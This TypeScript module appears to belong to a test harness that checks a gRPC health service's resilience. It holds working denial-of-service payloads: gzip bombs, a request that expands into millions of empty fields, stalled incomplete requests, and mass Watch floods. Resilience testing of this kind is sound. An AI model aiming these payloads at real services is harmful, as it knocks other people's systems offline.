import { gzipSync } from 'node:zlib';
import { begin, callOnce, outcomeOf, type Outcome } from './calls.js';
import { connectSession, type Target } from './target.js';

/* Attacks of an unauthenticated client on health, which is open on two ports. */

const checkPath = '/grpc.health.v1.Health/Check';
const watchPath = '/grpc.health.v1.Health/Watch';
const largestMessageBytes = 4 * 1024 * 1024;
const streamsPerConnection = 1_000;

export interface HealthAttack {
  readonly port: 'grpc' | 'health';
  readonly count: number;
  /** How long accepted calls are held. */
  readonly holdMs: number;
}

/** A field `service` of 4 MiB in total: 4 KiB compressed. */
const largeName = (): Buffer => {
  const name = Buffer.alloc(largestMessageBytes - 5, 'a');
  return Buffer.concat([Buffer.of(0x0a), lengthOf(name.length), name]);
};

/** Two million unknown fields, each empty. */
const emptyFields = (): Buffer => Buffer.alloc(largestMessageBytes, Buffer.of(0x12, 0x00));

const lengthOf = (length: number): Buffer =>
  Buffer.of((length & 127) | 128, ((length >> 7) & 127) | 128, ((length >> 14) & 127) | 128, length >> 21);

/** Watches whose request is a gzip bomb. */
export const gzipBombs = (target: Target, attack: HealthAttack): Promise<Outcome> =>
  compressed(target, watchPath, largeName(), attack);

/** Checks whose request has two million fields when decompressed. */
export const emptyFieldBombs = (target: Target, attack: HealthAttack): Promise<Outcome> =>
  compressed(target, checkPath, emptyFields(), attack);

const compressed = async (
  target: Target,
  path: string,
  body: Buffer,
  { port, count, holdMs }: HealthAttack,
): Promise<Outcome> => {
  const session = await connectSession(target, port);
  const bomb = gzipSync(body);
  const streams = Array.from({ length: count }, () => callOnce(session, { path }, bomb, 1));
  const outcome = await outcomeOf(streams, { withinMs: holdMs });
  session.destroy();
  return outcome;
};

/** Watches whose request announces 4 MiB, and lacks its last byte. */
export const endlessRequests = async (target: Target, { port, count, holdMs }: HealthAttack): Promise<Outcome> => {
  const session = await connectSession(target, port);
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(largestMessageBytes, 1);
  const body = Buffer.concat([prefix, largeName().subarray(0, -1)]);
  const streams = Array.from({ length: count }, () => {
    const stream = begin(session, { path: watchPath });
    stream.write(body);
    return stream;
  });
  const outcome = await outcomeOf(streams, { withinMs: holdMs });
  session.destroy();
  return outcome;
};

/** Valid Watches in large number. They come from a separate address. */
export const watches = async (target: Target, { port, count, holdMs }: HealthAttack): Promise<Outcome> => {
  const from = '127.0.0.66';
  const connections = Math.ceil(count / streamsPerConnection);
  const sessions = await Promise.all(Array.from({ length: connections }, () => connectSession(target, port, { from })));
  const streams = Array.from({ length: count }, (_, index) => {
    const session = sessions[index % connections];
    if (session === undefined) throw new Error('there is no connection');
    return callOnce(session, { path: watchPath }, Buffer.alloc(0));
  });
  const outcome = await outcomeOf(streams, { withinMs: holdMs });
  for (const session of sessions) session.destroy();
  return outcome;
};
